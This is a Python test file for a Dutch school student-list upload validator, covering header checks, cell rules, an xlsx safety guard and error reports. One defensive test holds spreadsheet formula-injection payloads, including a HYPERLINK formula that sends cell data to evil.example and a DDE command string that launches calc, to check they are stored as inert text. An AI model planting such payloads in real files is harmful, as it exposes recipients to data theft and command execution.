"""The row checks, the file guard, the reader and the report as plain
functions: no broker, no database."""
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from services.common.errors import DomainError
from services.uploads import columns as colspec
from services.uploads import report, rules, validate, xlsxguard
from tests.uploads import xlsxfactory as xf

TODAY = dt.date(2026, 11, 25)
VO_PT = colspec.columns("vo", "potential_transfer")
TITLES = [c.title for c in VO_PT]


def checker(school_type="vo", student_type="potential_transfer"):
    cols = colspec.columns(school_type, student_type)
    positions = {c.field: i for i, c in enumerate(cols)}
    return rules.RowChecker(school_type, student_type, positions, TODAY), cols


def cells(row, school_type="vo", student_type="potential_transfer"):
    return [row.get(c.title) for c in colspec.columns(school_type, student_type)]


def codes(errors):
    return [(e["column"], e["code"]) for e in errors]


# --- header ---------------------------------------------------------------------

def test_header_titles_suggestions_and_duplicates():
    positions, errors = rules.check_header(TITLES, VO_PT)
    assert errors == [] and positions["student_number"] == 0 and positions["bsn"] == 1
    header = list(TITLES)
    header[header.index("Achternaam")] = "achternaam "       # case and spaces do not count
    header[header.index("Voornaam")] = "VOOR\u00a0NAAM"       # not a title: suggested
    header[header.index("E-mailadres")] = "Emailadres"
    header.append("Leerlingnummer")                          # twice
    header.append("Schoenmaat")
    positions, errors = rules.check_header(header, VO_PT)
    assert positions["last_name"] == TITLES.index("Achternaam")
    unknown = {e["column"]: e.get("suggestion") for e in errors if e["code"] == "column_unknown"}
    assert unknown == {"VOOR NAAM": "Voornaam", "Emailadres": "E-mailadres", "Schoenmaat": None}
    # a misspelt title is one error (the suggestion), not also "missing"
    assert [e["column"] for e in errors if e["code"] == "column_missing"] == []
    assert [e["column"] for e in errors if e["code"] == "column_duplicate"] == ["Leerlingnummer"]
    header = [t.lower() for t in TITLES]
    assert rules.check_header(header, VO_PT) == (positions_of(VO_PT), [])


def positions_of(cols):
    return {c.field: i for i, c in enumerate(cols)}


@pytest.mark.parametrize("sent,chosen,field", [
    (("vo", "non_transfer"), ("vo", "potential_transfer"), "student_type"),
    (("vo", "potential_transfer"), ("vo", "non_transfer"), "student_type"),
    (("mbo", "potential_transfer"), ("vo", "potential_transfer"), "school_type"),
])
def test_the_other_template_is_recognised(sent, chosen, field):
    header = [c.title for c in colspec.columns(*sent)]
    _positions, errors = rules.check_header(header, colspec.columns(*chosen), chosen=chosen)
    assert [(e["code"], e["field"]) for e in errors] == [("list_type_mismatch", field)]
    text = errors[0]["message"]
    assert colspec.STUDENT_TYPE_NL[sent[1]].lower() in text
    assert f"u koos {colspec.STUDENT_TYPE_NL[chosen[1]].lower()}" in text
    # a list of the chosen template with one odd column is not "another list"
    own = [c.title for c in colspec.columns(*chosen)] + ["Huisnummer"]
    _positions, errors = rules.check_header(own, colspec.columns(*chosen), chosen=chosen)
    assert "list_type_mismatch" not in [e["code"] for e in errors]


def test_header_in_another_order_is_fine():
    shuffled = list(reversed(TITLES))
    positions, errors = rules.check_header(shuffled, VO_PT)
    assert errors == [] and positions["student_number"] == len(TITLES) - 1


# --- cells -----------------------------------------------------------------------

def test_a_valid_row_comes_out_clean():
    check, _cols = checker()
    row = xf.student_row(5)
    clean, errors = check.check(2, cells(row))
    assert errors == []
    assert clean["student_number"] == row["Leerlingnummer"] and clean["type"] == "potential_transfer"
    assert clean["date_of_birth"] == row["Geboortedatum"].isoformat()
    assert clean["year_of_education"] == row["Leerjaar"] and clean["postcode"] == "7311 BA"


def test_equal_values_of_other_kinds_get_their_own_verdict():
    """True == 1 == 1.0 in Python: the remembered outcome of one is never the other's."""
    check, _cols = checker()
    outcomes = []
    for rownum, year in enumerate([1.0, True, 1, "1", True, 1.0], start=2):
        row = {**xf.student_row(rownum), "Leerjaar": year}
        clean, errors = check.check(rownum, cells(row))
        outcomes.append(clean["year_of_education"] if clean else codes(errors))
    invalid = [("Leerjaar", "year_of_education_invalid")]
    assert outcomes == [1, invalid, 1, 1, invalid, 1]


def test_a_repeated_bad_value_is_reported_on_every_row():
    check, _cols = checker()
    found = []
    for rownum in (2, 3, 4):
        row = {**xf.student_row(rownum), "Postcode": "2235 SD", "Geslacht": "Q"}
        _clean, errors = check.check(rownum, cells(row))
        found.append([(e["row"], e["code"]) for e in errors])
    assert found == [[(r, "gender_invalid"), (r, "postcode_invalid")] for r in (2, 3, 4)]


@pytest.mark.parametrize("value,expected", [
    (20355889, "020355889"),          # numeric cell: Excel dropped the leading zero
    (20355889.0, "020355889"),        # as calamine gives it
    ("020355889", "020355889"),
    (" 0203.55.889 ", "020355889"),
])
def test_bsn_padding_and_shapes(value, expected):
    check, _ = checker()
    clean, errors = check.check(2, cells({**xf.student_row(1), "BSN": value}))
    assert errors == [] and clean["bsn"] == expected


@pytest.mark.parametrize("column,value,code", [
    ("BSN", "123456789", "bsn_invalid"),
    ("BSN", 1234, "bsn_invalid"),
    ("Onderwijsnummer", "123456789", "onderwijsnummer_invalid"),
    ("Leerlingnummer", "12ab", "student_number_not_digits"),
    ("Leerlingnummer", 123.5, "student_number_not_digits"),
    ("Leerlingnummer", "1" * 21, "too_long"),
    ("Geboortedatum", "2010-13-01", "date_invalid"),
    ("Geboortedatum", "31-02-2010", "date_invalid"),
    ("Geboortedatum", 40000.0, "date_invalid"),            # a number, not a date cell
    ("Geboortedatum", dt.date(2030, 1, 1), "date_out_of_range"),
    ("Geslacht", "Q", "gender_invalid"),
    ("E-mailadres", "jan@", "email_invalid"),
    ("E-mailadres", "jan@school.test", "email_invalid"),
    ("Postcode", "1234", "postcode_invalid"),
    ("Leerjaar", 7, "year_of_education_invalid"),
    ("Leerjaar", "twee", "year_of_education_invalid"),
    ("Leerweg", "mavo", "track_invalid"),
    ("Voornaam", True, "value_invalid"),
    ("Voornaam", "x" * 101, "too_long"),
    ("Voornaam", "   ", "required"),
    ("Klas", None, "required"),
])
def test_cell_rules(column, value, code):
    check, _ = checker()
    clean, errors = check.check(7, cells({**xf.student_row(1), column: value}))
    assert clean is None
    assert codes(errors) == [(column, code)]
    assert errors[0]["row"] == 7 and errors[0]["message"]


@pytest.mark.parametrize("column,value,code,words", [
    ("Postcode", "2235 SD", "postcode_invalid", "SA, SD en SS worden in Nederlandse postcodes "
                                                "nooit gebruikt"),
    ("Postcode", "0123 AB", "postcode_invalid", "heeft niet de vorm 1234 AB"),
    ("Geboortedatum", "31-02-2011", "date_invalid", "31-02-2011 bestaat niet: februari 2011 "
                                                    "heeft 28 dagen"),
    ("Geboortedatum", "12-13-2011", "date_invalid", "er is geen maand 13"),
    ("BSN", 3965223, "bsn_leading_zeros_lost", "Excel heeft de voorloopnullen weggelaten"),
    ("BSN", "3965223", "bsn_leading_zeros_lost", "als tekst"),
    ("BSN", "12345678901", "bsn_invalid", "11 cijfers"),
    ("Geslacht", "Q", "gender_invalid", "M (man), V (vrouw) of X"),
    ("Leerweg", "mavo", "track_invalid", "vmbo-bb, vmbo-kb, vmbo-gl, vmbo-tl, havo, vwo, pro"),
    ("Leerjaar", 7, "year_of_education_invalid", "van 1 tot en met 6"),
    ("Voornaam", "An\tna", "value_invalid", "tab, regelovergang"),
])
def test_messages_say_what_is_wrong(column, value, code, words):
    check, _ = checker()
    _clean, errors = check.check(7, cells({**xf.student_row(1), column: value}))
    assert codes(errors) == [(column, code)]
    assert words in errors[0]["message"], errors[0]["message"]
    assert "3965223" not in errors[0]["message"]      # never a BSN in a message


@pytest.mark.parametrize("column,value,expected", [
    ("Geslacht", "male", "M"), ("Geslacht", "Female", "V"), ("Geslacht", "vrouw", "V"),
    ("Voornaam", "Anna\u00a0Maria ", "Anna Maria"),     # a non-breaking space is a space
])
def test_values_other_paths_accept_are_accepted(column, value, expected):
    check, _ = checker()
    clean, errors = check.check(7, cells({**xf.student_row(1), column: value}))
    field = next(c.field for c in VO_PT if c.title == column)
    assert errors == [] and clean[field] == expected


@pytest.mark.parametrize("value,expected", [
    (dt.datetime(2010, 11, 3), "2010-11-03"), (dt.date(2010, 11, 3), "2010-11-03"),
    ("03-11-2010", "2010-11-03"), ("3-11-2010", "2010-11-03"), ("03/11/2010", "2010-11-03"),
    ("2010-11-03", "2010-11-03"),
])
def test_dates_as_excel_dates_or_dd_mm_jjjj(value, expected):
    check, _ = checker()
    clean, errors = check.check(2, cells({**xf.student_row(1), "Geboortedatum": value}))
    assert errors == [] and clean["date_of_birth"] == expected


def test_required_fields_per_student_type():
    check, _ = checker()
    row = {**xf.student_row(1), "BSN": None, "Geboortedatum": None, "Geslacht": None}
    _clean, errors = check.check(2, cells(row))
    assert sorted(codes(errors)) == [("BSN", "bsn_required"),
                                     ("Geboortedatum", "required"), ("Geslacht", "required")]
    onr = {**row, "Leerlingnummer": "424242", "Onderwijsnummer": xf.onderwijsnummer(1),
           "Geboortedatum": "01-01-2010", "Geslacht": "v"}
    clean, errors = check.check(3, cells(onr))
    assert errors == [] and clean["bsn"] is None and clean["gender"] == "V"
    # a non-transfer needs neither BSN nor birth date nor gender
    check, _ = checker("vo", "non_transfer")
    row = {**xf.student_row(2, student_type="non_transfer"), "BSN": None,
           "Geboortedatum": None, "Geslacht": None}
    clean, errors = check.check(2, cells(row, student_type="non_transfer"))
    assert errors == [] and clean["type"] == "non_transfer"


def test_mbo_tracks_and_years():
    check, _ = checker("mbo", "potential_transfer")
    row = {**xf.student_row(1, school_type="mbo"), "Leerweg/Niveau": "bol-3", "Leerjaar": 4}
    clean, errors = check.check(2, cells(row, "mbo"))
    assert errors == [] and clean["track"] == "BOL-3"
    row = {**xf.student_row(2, school_type="mbo"), "Leerjaar": 5}
    _clean, errors = check.check(3, cells(row, "mbo"))
    assert codes(errors) == [("Leerjaar", "year_of_education_invalid")]
    assert "1 tot en met 4" in errors[0]["message"]


def test_duplicates_within_the_file():
    check, _ = checker()
    a = xf.student_row(1)
    b = {**xf.student_row(2), "Leerlingnummer": a["Leerlingnummer"]}
    c = {**xf.student_row(3), "BSN": a["BSN"]}
    assert check.check(2, cells(a))[1] == []
    _clean, errors = check.check(3, cells(b))
    assert codes(errors) == [("Leerlingnummer", "student_number_duplicate")]
    assert "rij 2" in errors[0]["message"]
    _clean, errors = check.check(4, cells(c))
    assert codes(errors) == [("BSN", "bsn_duplicate")]


def test_existing_number_with_another_bsn():
    rows = [{"student_number": "1", "bsn": "111222333", "_row": 2},
            {"student_number": "2", "bsn": "123456782", "_row": 3},
            {"student_number": "3", "bsn": None, "_row": 4},
            {"student_number": "4", "bsn": "111222333", "_row": 5}]
    existing = {"1": "999999990", "2": "123456782", "3": "111222333", "4": None}
    errors = rules.mismatch_errors(rows, existing, VO_PT)
    assert [(e["row"], e["code"]) for e in errors] == [(2, "student_number_bsn_mismatch")]


def test_students_rpc_row_places_only_with_a_project():
    check, _ = checker()
    clean, _ = check.check(2, cells({**xf.student_row(1), "Afdeling": "h4"}))
    assert "participation" not in rules.students_rpc_row(clean)
    row = rules.students_rpc_row(clean, project_id=3)
    assert row["participation"] == {"department": "h4", "home_class": clean["home_class"]}
    assert "_row" not in row and "department" not in row


# --- the file guard ------------------------------------------------------------------

LIMITS = xlsxguard.Limits(max_bytes=2_000_000, max_rows=20, max_ratio=100,
                          max_expanded=50_000_000)


def test_guard_accepts_a_list_and_picks_the_visible_sheet():
    def extra(wb, ws):
        hidden = wb.create_sheet("Geheim", 0)
        hidden.sheet_state = "hidden"
    info = xlsxguard.inspect_xlsx(xf.make_list([xf.student_row(i) for i in range(5)],
                                               extra=extra), LIMITS)
    assert info.sheet_name == "Leerlingen" and info.data_rows == 5
    assert info.hidden_sheets == ["Geheim"]


@pytest.mark.parametrize("content,status,code", [
    (xf.XLS_HEADER, 415, "xls_not_supported"),
    (xf.PDF, 415, "not_xlsx"),
    (xf.CSV, 415, "not_xlsx"),
    (b"", 415, "not_xlsx"),
    (b"PK\x05\x06" + b"\x00" * 18, 415, "not_xlsx"),
])
def test_guard_refuses_what_is_no_xlsx(content, status, code):
    with pytest.raises(DomainError) as info:
        xlsxguard.inspect_xlsx(content, LIMITS)
    assert (info.value.status, info.value.code) == (status, code)


def test_guard_limits():
    with pytest.raises(DomainError) as info:
        xlsxguard.inspect_xlsx(xf.with_macros(), LIMITS)
    assert (info.value.status, info.value.code) == (415, "macros_not_allowed")
    with pytest.raises(DomainError) as info:
        xlsxguard.inspect_xlsx(xf.zip_bomb(20 * 1024 * 1024), LIMITS)
    assert (info.value.status, info.value.code) == (413, "zip_bomb")
    rows = [xf.student_row(i) for i in range(21)]
    with pytest.raises(DomainError) as info:
        xlsxguard.inspect_xlsx(xf.make_list(rows), LIMITS)
    assert (info.value.status, info.value.code) == (422, "too_many_rows")
    # trailing formatted-but-empty rows are no rows
    def formatted(wb, ws):
        from openpyxl.styles import Font
        for r in range(30, 500):
            ws.cell(row=r, column=1).font = Font(bold=True)
    info = xlsxguard.inspect_xlsx(xf.make_list(rows[:20], extra=formatted), LIMITS)
    assert info.data_rows == 20
    with pytest.raises(DomainError) as info:
        xlsxguard.inspect_xlsx(b"x" * 2_000_001, LIMITS)
    assert (info.value.status, info.value.code) == (413, "file_too_large")


# --- reading and the report ------------------------------------------------------------

def test_check_file_streams_rows_and_skips_empty_ones(tmp_path):
    rows = [xf.student_row(1), {}, xf.student_row(2), {**xf.student_row(3), "BSN": "1"}]
    path = tmp_path / "lijst.xlsx"
    path.write_bytes(xf.make_list(rows))
    out = validate.check_file(path, "vo", "potential_transfer", "Leerlingen",
                              tmp_path / "rows.jsonl.gz", 100)
    assert out.rows == 3 and out.error_count == 1
    assert out.errors[0]["cell"] == "B5" and out.errors[0]["row"] == 5
    assert not (tmp_path / "rows.jsonl.gz").exists()  # a rejected list keeps no rows
    path.write_bytes(xf.make_list(rows[:3]))
    out = validate.check_file(path, "vo", "potential_transfer", "Leerlingen",
                              tmp_path / "rows.jsonl.gz", 100)
    assert out.error_count == 0 and [n for n, _b, _r in out.numbers] == ["100001", "100002"]
    from services.uploads.storage import read_rows
    assert [r["_row"] for r in read_rows(tmp_path / "rows.jsonl.gz")] == [2, 4]


def test_check_file_hands_out_the_numbers_to_look_up_as_it_goes(tmp_path):
    rows = [xf.student_row(i) for i in range(1, 6)] + [{**xf.student_row(6), "BSN": "1"}]
    path = tmp_path / "lijst.xlsx"
    path.write_bytes(xf.make_list(rows))
    chunks = []
    out = validate.check_file(path, "vo", "potential_transfer", "Leerlingen",
                              tmp_path / "rows.jsonl.gz", 100, on_numbers=chunks.append,
                              numbers_chunk=2)
    assert [len(c) for c in chunks] == [2, 2, 1]  # the rest when the sheet is done
    assert sum(chunks, []) == [n for n, _b, _r in out.numbers] == \
        [str(100000 + i) for i in range(1, 6)]


def test_untitled_column_with_data_and_empty_list(tmp_path):
    path = tmp_path / "lijst.xlsx"

    def extra(wb, ws):
        ws.cell(row=2, column=len(TITLES) + 2, value="losse notitie")
    path.write_bytes(xf.make_list([xf.student_row(1)], extra=extra))
    out = validate.check_file(path, "vo", "potential_transfer", "Leerlingen",
                              tmp_path / "r.gz", 100)
    letter = rules.column_letter(len(TITLES) + 1)
    assert [(e["code"], e["column"]) for e in out.errors] == [("column_title_missing", letter)]
    path.write_bytes(xf.make_list([]))
    out = validate.check_file(path, "vo", "potential_transfer", "Leerlingen",
                              tmp_path / "r.gz", 100)
    assert [e["code"] for e in out.errors] == ["no_rows"]


def test_report_marks_cells_and_lists_every_error(tmp_path):
    path = tmp_path / "lijst.xlsx"
    path.write_bytes(xf.make_list([xf.student_row(1), {**xf.student_row(2), "Klas": None}]))
    errors = [{"row": 3, "column": "Klas", "cell": "O3", "code": "required",
               "message": "Klas is verplicht."},
              {"row": None, "column": None, "cell": None, "code": "x", "message": "Los."}]
    data = report.build_report(validate.read_cells(path, "Leerlingen"), errors)
    wb = load_workbook(io.BytesIO(data))
    ws = wb["Leerlingen"]
    assert ws["O3"].comment.text == "Klas is verplicht."
    assert ws["O3"].fill.fgColor.rgb.endswith("FFC7CE")
    assert ws["A2"].value == "100001" and ws["O2"].comment is None
    assert [[c.value for c in r] for r in wb["Fouten"].iter_rows(min_row=2)] == [
        [3, "Klas", "Klas is verplicht.", "required"], [None, None, "Los.", "x"]]
    # the template's formatting is kept: text identifiers, drop-downs, instructions
    assert wb.sheetnames == ["Leerlingen", "Fouten", "Instructies"]
    assert ws.column_dimensions["A"].number_format == "@"
    assert ws.column_dimensions["B"].number_format == "@"
    assert ws["A1"].comment is not None and ws.freeze_panes == "A2"
    assert any('"M,V,X"' == dv.formula1 for dv in ws.data_validations.dataValidation)
    assert ws.column_dimensions["E"].width >= 16


def test_report_never_writes_a_formula_and_keeps_legitimate_values(tmp_path):
    titles = TITLES
    hostile = {"Voornaam": '=HYPERLINK("http://evil.example/?x="&A2,"klik")',
               "Achternaam": "=cmd|' /C calc'!A0", "Tussenvoegsel": "@SUM(1+1)",
               "Straat": "+31 6 1234", "Woonplaats": "-2+3", "Huisnummer": "-"}
    path = tmp_path / "lijst.xlsx"
    path.write_bytes(xf.make_list([{**xf.student_row(1), **hostile}]))
    data = report.build_report(validate.read_cells(path, "Leerlingen"), [])
    ws = load_workbook(io.BytesIO(data))["Leerlingen"]
    by_title = {titles[i]: cell for i, cell in enumerate(ws[2]) if i < len(titles)}
    for title, text in hostile.items():
        cell = by_title[title]
        assert cell.value == text and cell.data_type == "s", (title, cell.data_type)
        assert cell.quotePrefix == (text != "-"), title
    assert by_title["Geboortedatum"].is_date
    # the report read back (as a school sends it again) gives the same values
    (tmp_path / "rapport.xlsx").write_bytes(data)
    back = dict(zip(titles, next(r for n, r in validate.read_cells(tmp_path / "rapport.xlsx",
                                                                   "Leerlingen") if n == 2)))
    assert {t: back[t] for t in hostile} == hostile


def test_row_limit_also_holds_while_parsing(tmp_path):
    """A file whose declared used range understates its rows passes the door's
    quick check; the parse still stops at the limit."""
    path = tmp_path / "lijst.xlsx"
    path.write_bytes(xf.make_list([xf.student_row(i) for i in range(1, 6)]))
    out = validate.check_file(path, "vo", "potential_transfer", "Leerlingen",
                              tmp_path / "rows.jsonl.gz", 100, max_rows=3)
    assert [e["code"] for e in out.errors] == ["too_many_rows"]
    assert not (tmp_path / "rows.jsonl.gz").exists()


def test_school_type_must_be_the_institutions():
    assert rules.school_type_mismatch("vo", "vo") is None
    assert rules.school_type_mismatch("mbo", None) is None      # nothing on record
    item = rules.school_type_mismatch("mbo", "vo")
    assert item["code"] == "school_type_mismatch" and item["field"] == "school_type"
    assert item["message"].startswith("Deze school is een VO-school; u koos MBO.")
    assert rules.school_type_mismatch("vo", "mbo")["message"].startswith(
        "Deze school is een MBO-school; u koos VO.")


def _both_ways(monkeypatch, tmp_path, rows, **kw):
    """check_file's outcome and clean rows in one process and split over two."""
    from services.uploads.storage import read_rows
    path = tmp_path / "lijst.xlsx"
    path.write_bytes(xf.make_list(rows))
    monkeypatch.setattr(validate, "SPLIT_ROWS", 4)
    forks, start_second = [], validate._start_second
    monkeypatch.setattr(validate, "_start_second",
                        lambda *args: forks.append(args[1]) or start_second(*args))
    found = []
    for workers in (1, 2):
        target = tmp_path / f"rows-{workers}.jsonl.gz"
        out = validate.check_file(path, "vo", "potential_transfer", "Leerlingen", target,
                                  kw.get("max_errors", 100), max_rows=kw.get("max_rows"),
                                  workers=workers)
        kept = read_rows(target) if target.exists() else None
        found.append(((out.rows, out.errors, out.error_count, out.numbers), kept))
    assert not list(tmp_path.glob(".*"))  # no part or temporary file left
    assert forks == [1 + (len(rows) + 1) // 2]  # split once, halfway (header: row 1)
    return found


def test_a_split_check_finds_what_one_process_finds(monkeypatch, tmp_path):
    rows = [xf.student_row(i) for i in range(1, 13)]
    rows[8]["Leerlingnummer"] = rows[1]["Leerlingnummer"]   # across the halves
    rows[10]["BSN"] = rows[9]["BSN"]                         # within the later half
    rows[11]["BSN"] = rows[2]["BSN"]                         # across, on a row in error:
    rows[11]["Geslacht"] = "Q"
    rows[7]["Postcode"] = "2235 SD"
    rows[9]["Leerlingnummer"] = rows[1]["Leerlingnummer"]   # a third time
    one, two = _both_ways(monkeypatch, tmp_path, rows)
    assert one == two
    codes_ = [(e["row"], e["code"]) for e in one[0][1]]
    assert (10, "student_number_duplicate") in codes_ and (12, "bsn_duplicate") in codes_
    assert (11, "student_number_duplicate") in codes_ and (13, "bsn_duplicate") in codes_
    capped = _both_ways(monkeypatch, tmp_path, rows, max_errors=3)
    assert capped[0] == capped[1] and len(capped[0][0][1]) == 3


def test_a_split_check_keeps_every_clean_row_and_the_row_limit(monkeypatch, tmp_path):
    rows = [xf.student_row(i) for i in range(1, 11)]
    one, two = _both_ways(monkeypatch, tmp_path, rows)
    assert one == two and one[0][2] == 0
    assert [r["_row"] for r in two[1]] == list(range(2, 12))
    one, two = _both_ways(monkeypatch, tmp_path, rows, max_rows=7)
    assert one == two and one[0][1][0]["code"] == "too_many_rows"


def test_the_check_process_splits_and_both_parts_hand_out_their_numbers(tmp_path):
    """checkproc.py as the service runs it, a 12-row list split in two: every
    clean row's number is said once (by one part or the other), the numbers
    file and the result are one process's outcome."""
    import json
    import subprocess
    import sys
    rows = [xf.student_row(i) for i in range(1, 13)]
    rows[10]["Leerlingnummer"] = rows[2]["Leerlingnummer"]  # a duplicate across the halves
    path = tmp_path / "lijst.xlsx"
    path.write_bytes(xf.make_list(rows))
    args = {"path": str(path), "school_type": "vo", "student_type": "potential_transfer",
            "sheet": "Leerlingen", "rows_path": str(tmp_path / "rows.jsonl.gz"),
            "max_errors": 100, "max_rows": 1000, "lookup_chunk": 2, "workers": 2,
            "split_rows": 4, "result_path": str(tmp_path / "result.json"),
            "numbers_path": str(tmp_path / "numbers.tsv")}
    done = subprocess.run([sys.executable, "-m", "services.uploads.checkproc", json.dumps(args)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    said = [n for line in done.stdout.splitlines() if line.startswith("numbers ")
            for n in json.loads(line[8:])]
    result = json.loads((tmp_path / "result.json").read_text())
    assert result["rows"] == 12 and [e["code"] for e in result["errors"]] == \
        ["student_number_duplicate"] and result["part_private_mb"] is not None
    numbers = [line.split("\t") for line in (tmp_path / "numbers.tsv").read_text().splitlines()]
    assert [int(r) for _n, _b, r in numbers] == [r for r in range(2, 14) if r != 12]
    # the later part said the duplicate's number before the merge found it: said, not listed
    assert sorted(said) == sorted([n for n, _b, _r in numbers] + [rows[10]["Leerlingnummer"]])
    assert done.stdout.splitlines()[-1] == "done"


def test_the_later_part_of_a_check_dies_with_the_check_process(tmp_path):
    """When the service kills a check at its timeout, the part it forked goes
    too (it would otherwise write its rows on, for nobody)."""
    import os
    import signal
    import subprocess
    import sys
    import time
    script = (
        "import os, sys, time\n"
        "from services.uploads import validate\n"
        "parent = os.getpid()\n"
        "pid = os.fork()\n"
        "if pid == 0:\n"
        "    validate.die_with_parent(parent)\n"
        "    time.sleep(30)\n"
        "    open(sys.argv[1], 'w').write('written on')\n"
        "    os._exit(0)\n"
        "print(pid, flush=True)\n"
        "time.sleep(60)\n")
    marker = tmp_path / "marker"
    proc = subprocess.Popen([sys.executable, "-c", script, str(marker)],
                            stdout=subprocess.PIPE, text=True)
    child = int(proc.stdout.readline())
    time.sleep(0.3)  # the child has set its death signal
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()

    def alive(pid):
        try:
            with open(f"/proc/{pid}/status") as fh:
                return not any(line.startswith("State:") and "Z" in line for line in fh)
        except FileNotFoundError:
            return False

    deadline = time.monotonic() + 5
    while alive(child) and time.monotonic() < deadline:
        time.sleep(0.05)
    try:
        assert not alive(child)
    finally:
        if alive(child):
            os.kill(child, signal.SIGKILL)
    assert not marker.exists()


def test_a_failed_check_leaves_no_half_written_rows(tmp_path):
    from services.uploads import jobs, storage
    kept = tmp_path / storage.ROWS
    kept.write_bytes(b"done")
    leftovers = [tmp_path / f".{storage.ROWS}.ab12.tmp", tmp_path / f".{storage.ROWS}.77.part",
                 tmp_path / f"..{storage.ROWS}.77.part.cd34.tmp"]
    for path in leftovers:
        path.write_bytes(b"half")
    other = tmp_path / "original.xlsx"
    other.write_bytes(b"x")
    jobs.remove_partial_rows(tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([kept.name, other.name])
